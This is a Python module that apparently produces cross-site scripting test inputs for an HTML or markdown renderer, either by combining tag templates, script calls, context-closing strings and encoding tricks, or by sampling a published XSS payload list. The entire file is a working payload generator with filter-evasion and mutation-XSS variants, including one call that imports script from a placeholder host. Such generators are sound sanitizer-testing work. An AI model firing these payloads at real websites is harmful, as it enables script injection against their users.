"""What is written to bring a script into a page: made here, or read from a published list.

Made of element × event × call × writing × context, always the same ones. `XSS_VECTORS` names a file
of a published list, one a line, such as `Intruder/xss-payload-list.txt` of payloadbox.
"""

import os
import random
from pathlib import Path

CALLS = (
    *("alert(1)", "prompt(1)", "confirm(1)", "print()", "alert`1`", "top.alert(1)", "(alert)(1)"),
    *("window['al'+'ert'](1)", "self[`alert`](1)", "[1].find(alert)", "eval('alert(1)')"),
    *("setTimeout('alert(1)')", "Function('alert(1)')()", "alert?.(1)", "import('//a.example/b')"),
    *("a=alert,a(1)", "\\u0061lert(1)", "throw onerror=alert,1", "location='javascript:alert(1)'"),
)
# Each runs its call by itself in a page that escapes nothing, or at a touch.
ELEMENTS = (
    *("<img src=x onerror={call}>", "<svg onload={call}>", "<svg><animate onbegin={call} dur=1s>"),
    *("<body onload={call}>", "<details open ontoggle={call}>", "<input autofocus onfocus={call}>"),
    *("<video><source onerror={call}></video>", "<audio src=x onerror={call}></audio>"),
    *(
        "<script>{call}</script>",
        "<svg><script>{call}</script></svg>",
        "<embed src=javascript:{call}>",
    ),
    *("<iframe srcdoc='<img src=x onerror={call}>'>", "<iframe src='javascript:{call}'></iframe>"),
    *("<object data='javascript:{call}'></object>", "<marquee onstart={call}>x</marquee>"),
    *("<a href='javascript:{call}'>x</a>", "<form action='javascript:{call}'><button>x</form>"),
    *(
        "<form><button formaction='javascript:{call}'>x</form>",
        "<isindex action='javascript:{call}'>",
    ),
    *("<select autofocus onfocus={call}>", "<textarea autofocus onfocus={call}></textarea>"),
    *("<b id=x tabindex=1 onfocusin={call} autofocus>x</b>", "<xss onpointerenter={call}>x</xss>"),
    *(
        "<math href='javascript:{call}'>x</math>",
        "<math><mtext><table><mglyph><style><img src onerror={call}>",
    ),
    *("<style>@keyframes x{{}}</style><b style='animation:x' onanimationstart={call}>x</b>",),
    *(
        "<noscript><p title='</noscript><img src=x onerror={call}>'>",
        "<base href='javascript:/a/-{call}//'>",
    ),
    *(
        "<svg><a xlink:href='javascript:{call}'><text y=20>x</text></a></svg>",
        "<link rel=x onload={call}>",
    ),
    *(
        "<svg></p><style><a id='</style><img src=x onerror={call}>'>",
        "<meta http-equiv=refresh content='0;javascript:{call}'>",
    ),
    *(
        "<template><img src=x onerror={call}></template>",
        "<video poster=x onloadstart={call} src=x></video>",
    ),
    *("<img srcset=x onerror={call}>", "<picture><source srcset=x><img onerror={call}></picture>"),
    *("<input type=image src=x onerror={call}>", "<table background='javascript:{call}'>"),
    *(
        "[x](javascript:{call})",
        "![x](javascript:{call})",
        "<javascript:{call}>",
        "[x]: javascript:{call}\n\n[x]",
    ),
    *(
        "[x](data:text/html,<script>{call}</script>)",
        '![x](x"onerror={call})',
        '[x](https://a.kr "\'onmouseover={call}")',
    ),
    *(
        '::: analogy" onload={call}\nx\n:::',
        "::: checklist <img src=x onerror={call}>\n- [ ] <img src=x onerror={call}>\n:::",
    ),
    *(
        '```html" onload={call}\n<script>{call}</script>\n```',
        "x[^<img src=x onerror={call}>]\n\n[^<img src=x onerror={call}>]: x",
    ),
    *(
        "\\(\\href{{javascript:{call}}}{{x}}\\)",
        "$$\\text{{<img src=x onerror={call}>}}$$",
        "| <img src=x onerror={call}> |\n|---|\n| x |",
    ),
    *(
        "{{{{constructor.constructor('{call}')()}}}}",
        "${{{call}}}",
        "{{% debug %}}<img src=x onerror={call}>",
        "#{{{call}}}",
    ),
    *(
        "{{<img src=x onerror={call}>}}",
        "::: drawing bar <svg onload={call}>\n<img src=x onerror={call}>: a 1 | b 2\n:::",
    ),
)
# What closes whatever the text may stand in.
CONTEXTS = (
    *(
        "",
        "",
        "",
        '">',
        "'>",
        "--></",
        "</title>",
        "</textarea>",
        "</script>",
        "</style>",
        "]]>",
        "</svg>",
    ),
    *(
        '" x="',
        "' x='",
        "javascript:/*--></title></style></textarea></script>",
        '\\"',
        "</a>",
        "&quot;>",
    ),
)


def plain(text: str) -> str:
    return text


def entities(text: str) -> str:
    """The scheme and the brackets of calls as HTML may write them."""
    for letter in "j:(":
        text = text.replace(letter, f"&#{ord(letter)};")
    return text


def hexadecimal(text: str) -> str:
    return text.replace("a", "&#x61;").replace("o", "&#x00006f")


def any_case(text: str) -> str:
    return "".join(letter.upper() if at % 2 else letter for at, letter in enumerate(text))


WRITINGS = (
    *(plain, plain, plain, entities, hexadecimal, any_case, str.upper),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\x0c").replace("java", "java\t"),
    lambda text: text.replace(" ", "\n").replace("javascript", "java\nscript"),
    lambda text: text.replace("javascript", "\x01javascript").replace("<", "<\x00"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "<<").replace("script", "scr<script>ipt"),
    lambda text: text.removesuffix(">"),
    lambda text: text + text,
)


def made(number: int) -> list[str]:
    """So many that differ, the same in every run; the first ones have all elements."""
    dice = random.Random(19)
    vectors: dict[str, None] = {}
    while len(vectors) < number:
        for element in dice.sample(ELEMENTS, len(ELEMENTS)):
            vector = element.format(call=dice.choice(CALLS))
            vectors[dice.choice(CONTEXTS) + dice.choice(WRITINGS)(vector)] = None
    return list(vectors)[:number]


def published(path: Path, number: int) -> list[str]:
    """So many of a list, the same in every run, from all of it."""
    lines = path.read_text(encoding="utf-8", errors="replace").splitlines()
    listed = list(dict.fromkeys(line.strip() for line in lines if line.strip()))
    return random.Random(19).sample(listed, min(number, len(listed)))


def vectors(number: int) -> list[str]:
    path = os.environ.get("XSS_VECTORS", "")
    return published(Path(path), number) if path else made(number)
